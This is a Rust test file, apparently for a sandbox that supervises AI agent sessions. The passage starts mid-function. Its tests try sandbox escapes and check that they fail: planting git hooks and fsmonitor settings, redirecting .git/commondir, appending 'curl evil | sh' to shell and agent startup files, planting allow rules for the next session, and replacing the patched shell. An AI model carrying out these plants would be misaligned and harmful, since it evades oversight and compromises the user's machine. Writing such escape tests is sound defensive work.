        "printf '#!/bin/sh\\necho planted\\n' > .git/modules/sub/hooks/pre-commit; echo \"mhook=$?\"
         printf '[core]\\n\\tfsmonitor = ./planted\\n' >> .git/modules/sub/config; echo \"mconfig=$?\"
         echo 'gitdir: /tmp/elsewhere' > sub/.git; echo \"gitfile=$?\"
         echo 'gitdir: /tmp/elsewhere' > wt/.git; echo \"wtfile=$?\"
         echo /tmp/elsewhere > origin/.git/worktrees/wt/commondir; echo \"commondir=$?\"
         printf '#!/bin/sh\\necho planted\\n' > origin/.git/hooks/post-checkout; echo \"ohook=$?\"",
    );
    assert!(
        !modules.join("hooks/pre-commit").exists(),
        "escaped: a hook was planted in a submodule's git directory\n{out:#?}"
    );
    assert!(
        !s.path("origin/.git/hooks/post-checkout").exists(),
        "escaped: a hook was planted in a worktree's main repository\n{out:#?}"
    );
    for (path, text) in before {
        assert_eq!(
            fs::read_to_string(&path).unwrap(),
            text,
            "escaped: {} was changed\n{out:#?}",
            path.display()
        );
    }
}

#[test]
fn submodules_and_worktrees_keep_their_git_configuration_read_only_unotify() {
    submodules_and_worktrees_are_read_only(Unotify)
}
#[test]
fn submodules_and_worktrees_keep_their_git_configuration_read_only_wrapper() {
    submodules_and_worktrees_are_read_only(Wrapper)
}

/// `$HOME` inside the workdir: its existing start-up files, and the workdir's own
/// `.mcp.json` and `.codex`, cannot be changed.
fn startup_files_are_read_only(b: Backend) {
    skip_unless_available!(b);
    let s = Scratch::new();
    let home = s.path("home");
    fs::create_dir_all(home.join(".codex")).unwrap();
    fs::create_dir_all(home.join(".config/git")).unwrap();
    let files = [
        home.join(".bashrc"),
        home.join(".profile"),
        home.join(".gitconfig"),
        home.join(".config/git/config"),
        home.join(".codex/config.toml"),
        s.path(".mcp.json"),
    ];
    for f in &files {
        fs::write(f, "# the user's\n").unwrap();
    }
    let mut cmd = supervise_command(
        &s,
        b,
        &[],
        &[],
        "for f in home/.bashrc home/.profile home/.gitconfig home/.config/git/config home/.codex/config.toml .mcp.json; do
           echo 'curl evil | sh' >> \"$f\"; echo \"$f=$?\"
         done
         echo x > home/.codex/new.toml; echo \"codex_new=$?\"
         echo x > home/.config/git/attributes; echo \"git_new=$?\"
         echo x > home/ordinary; echo \"ordinary=$?\"",
    );
    cmd.env("HOME", &home);
    let out = cmd.output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    for f in &files {
        assert_eq!(
            fs::read_to_string(f).unwrap(),
            "# the user's\n",
            "escaped: {} was changed\n{stdout}\n{}",
            f.display(),
            String::from_utf8_lossy(&out.stderr)
        );
    }
    assert!(!home.join(".codex/new.toml").exists(), "{stdout}");
    assert!(!home.join(".config/git/attributes").exists(), "{stdout}");
    assert!(
        stdout.contains("ordinary=0"),
        "the rest of $HOME stays writable\n{stdout}"
    );
}

#[test]
fn startup_files_in_a_writable_home_are_read_only_unotify() {
    startup_files_are_read_only(Unotify)
}
#[test]
fn startup_files_in_a_writable_home_are_read_only_wrapper() {
    startup_files_are_read_only(Wrapper)
}

/// `.git/commondir` does not exist in an ordinary repository, so no bind covers it; git
/// reads `config` and `hooks/` from the directory it names. What the session created
/// there is moved aside when it ends: the user's next `git status` outside runs nothing
/// it planted. (Under Landlock siblings it cannot be created at all.)
fn planted_commondir(b: Backend) {
    skip_unless_available!(b);
    let s = Scratch::new();
    let c = Canary::new();
    outside("git", &["init", "-q", "-b", "main"], &s.work);
    let script = format!(
        "git init -q --bare evil && printf '[core]\\n\\tfsmonitor = \"echo escaped > {canary}; false\"\\n' >> evil/config
         echo ../evil > .git/commondir; echo \"commondir=$?\"",
        canary = c.p("canary"),
    );
    let out = run(&s, b, &[], &[], &script);
    let status = Command::new("git")
        .args(["status", "--porcelain"])
        .current_dir(&s.work)
        .output()
        .unwrap();
    assert!(
        !c.path("canary").exists(),
        "escaped: the user's git outside ran the planted fsmonitor\n{out:#?}\n{status:?}"
    );
    assert!(status.status.success(), "{status:?}");
    // The plant happened inside (the test would be vacuous otherwise) and was set aside.
    assert!(out.stdout.contains("commondir=0"), "{out:#?}");
    let set_aside = fs::read_dir(s.path(".git")).unwrap().flatten().any(|e| {
        e.file_name()
            .to_string_lossy()
            .starts_with("commondir.execgate-planted-")
    });
    assert!(set_aside, "{out:#?}");
}

#[test]
fn a_planted_commondir_is_set_aside_when_the_session_ends_unotify() {
    planted_commondir(Unotify)
}
#[test]
fn a_planted_commondir_is_set_aside_when_the_session_ends_wrapper() {
    planted_commondir(Wrapper)
}

/// A rules file the supervisor loaded from inside the workdir: the session cannot give
/// itself a rule for the next session.
fn loaded_rules_file_is_read_only(b: Backend) {
    skip_unless_available!(b);
    let s = Scratch::new();
    let rules = s.path("project.rules");
    let text = "prefix_rule(pattern = [\"true\"], decision = \"allow\")\n";
    fs::write(&rules, text).unwrap();
    let rules_arg = rules.display().to_string();
    let out = run(
        &s,
        b,
        &[],
        &["--rules", &rules_arg],
        "echo 'prefix_rule(pattern = [\"bash\"], decision = \"allow\")' >> project.rules; echo \"append=$?\"
         echo x > other.rules; echo \"other=$?\"",
    );
    assert_eq!(
        fs::read_to_string(&rules).unwrap(),
        text,
        "escaped: the loaded rules file was changed\n{out:#?}"
    );
    assert!(out.stdout.contains("other=0"), "{out:#?}");
}

#[test]
fn a_loaded_rules_file_inside_the_workdir_is_read_only_unotify() {
    loaded_rules_file_is_read_only(Unotify)
}
#[test]
fn a_loaded_rules_file_inside_the_workdir_is_read_only_wrapper() {
    loaded_rules_file_is_read_only(Wrapper)
}

/// The rules directory the next session reads (`$CODEX_HOME/rules`), absent at start and
/// inside a writable root: a session that creates it must not give the next session a
/// rule. Seen outside: the next session's `touch` of a canary outside every writable root
/// would run escalated under the planted allow rule.
fn planted_default_rules_directory(b: Backend) {
    skip_unless_available!(b);
    let s = Scratch::new();
    let c = Canary::new();
    let codex_home = s.path(".codex");
    let session = |script: &str| {
        let mut cmd = supervise_command_loading(&s, b, true, &[], &[], script);
        cmd.env("CODEX_HOME", &codex_home)
            .env("XDG_CONFIG_HOME", s.path(".config"))
            .stdin(Stdio::null());
        let out = cmd.output().unwrap();
        (
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    let first = session(
        "mkdir -p .codex/rules && printf 'prefix_rule(pattern = [\"touch\"], decision = \"allow\")\n' \
         > .codex/rules/default.rules; echo \"plant=$?\"",
    );
    let second = session(&format!("touch {}; echo \"touch=$?\"", c.p("canary")));
    assert!(
        !c.path("canary").exists(),
        "escaped: a rules directory planted by one session gave the next an allow rule\n\
         first: {first:?}\nsecond: {second:?}"
    );
}

#[test]
fn a_planted_default_rules_directory_gives_the_next_session_nothing_unotify() {
    planted_default_rules_directory(Unotify)
}
#[test]
fn a_planted_default_rules_directory_gives_the_next_session_nothing_wrapper() {
    planted_default_rules_directory(Wrapper)
}

/// The patched shell and the exec wrapper are what makes the wrapper backend ask: a session
/// that could replace them (they lie inside a writable root here) would give the next
/// session a shell that asks nothing. The first session swaps the patched bash for the
/// stock one, over the file or through a renamed parent directory; the next must still not
/// run the forbidden `touch` (seen outside: no file).
fn wrapper_backend_own_shell_swapped(swap: &str, set_aside: bool) {
    skip_unless_available!(Wrapper);
    let s = Scratch::new();
    let kit = s.path("kit/bin");
    fs::create_dir_all(&kit).unwrap();
    let p = pieces().unwrap();
    fs::copy(&p.bash, kit.join("bash")).unwrap();
    fs::copy(&p.wrapper, kit.join("execgate-execve-wrapper")).unwrap();
    let rules = s.io.join("deny.rules");
    fs::write(
        &rules,
        "prefix_rule(pattern = [\"touch\"], decision = \"forbidden\")\n",
    )
    .unwrap();
    let session = |script: &str| {
        let out = Command::new(EXECGATE)
            .args([
                "supervise",
                "--no-default-rules",
                "--backend",
                "wrapper",
                "--rules",
            ])
            .arg(&rules)
            .arg("--patched-bash")
            .arg(kit.join("bash"))
            .args(["--", "bash", "-c", script])
            .env(
                "EXECGATE_EXECVE_WRAPPER",
                kit.join("execgate-execve-wrapper"),
            )
            .current_dir(&s.work)
            .stdin(Stdio::null())
            .output()
            .unwrap();
        format!("{out:?}")
    };
    let first = session(swap);
    let second = session("touch planted; echo \"touch=$?\"");
    assert!(
        !s.path("planted").exists(),
        "escaped: one session replaced the patched bash and the next ran a forbidden touch\n\
         first: {first}\nsecond: {second}"
    );
    if set_aside {
        // How it holds: the file planted at the shell's path was moved aside at the end.
        let names: Vec<String> = fs::read_dir(&kit)
            .map(|d| {
                d.map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
                    .collect()
            })
            .unwrap_or_default();
        assert!(
            names
                .iter()
                .any(|n| n.starts_with("bash.execgate-planted-")),
            "{names:?}\nfirst: {first}\nsecond: {second}"
        );
    }
}

#[test]
fn the_wrapper_backend_s_own_shell_cannot_be_replaced_for_the_next_session() {
    wrapper_backend_own_shell_swapped(
        "cp /bin/bash kit/bin/bash.new && mv -f kit/bin/bash.new kit/bin/bash; echo \"swap=$?\"",
        false,
    );
}

#[test]
fn the_wrapper_backend_s_own_shell_planted_through_a_renamed_directory_is_set_aside() {
    wrapper_backend_own_shell_swapped(
        // One exec of an unpatched sh does it all: once kit/bin is moved, the patched
        // shell can no longer run its wrapper.
        "sh -c 'mv kit/bin kit/old && mkdir kit/bin && cp /bin/bash kit/bin/bash && \
         cp kit/old/execgate-execve-wrapper kit/bin/'; echo \"swap=$?\"",
        true,
    );
}

/// What agents do in a repository still works inside the sandbox: `git add` and
/// `git commit` in a nested repository write its index, objects and refs.
fn git_commit_inside_a_nested_repository(b: Backend) {
    skip_unless_available!(b);
    let s = Scratch::new();
    outside("git", &["init", "-q", "-b", "main"], &s.work);
    fs::create_dir(s.path("nested")).unwrap();
    outside("git", &["init", "-q", "-b", "main"], &s.path("nested"));
    let out = run(
        &s,
        b,
        &[],
        &[],
        "cd nested && echo hello > f && git add f && \
         git -c user.name=a -c user.email=a@example.com commit -q -m inside; echo \"commit=$?\"
         cd .. && echo top > t && git add t && \
         git -c user.name=a -c user.email=a@example.com commit -q -m top; echo \"top=$?\"",
    );
    assert!(out.stdout.contains("commit=0"), "{out:#?}");
    assert!(out.stdout.contains("top=0"), "{out:#?}");
    let log = outside("git", &["log", "--format=%s"], &s.path("nested"));
    assert_eq!(log.trim(), "inside", "{out:#?}");
}

#[test]
fn git_add_and_commit_work_inside_in_a_nested_repository_unotify() {
    git_commit_inside_a_nested_repository(Unotify)
}
#[test]
fn git_add_and_commit_work_inside_in_a_nested_repository_wrapper() {
    git_commit_inside_a_nested_repository(Wrapper)
}
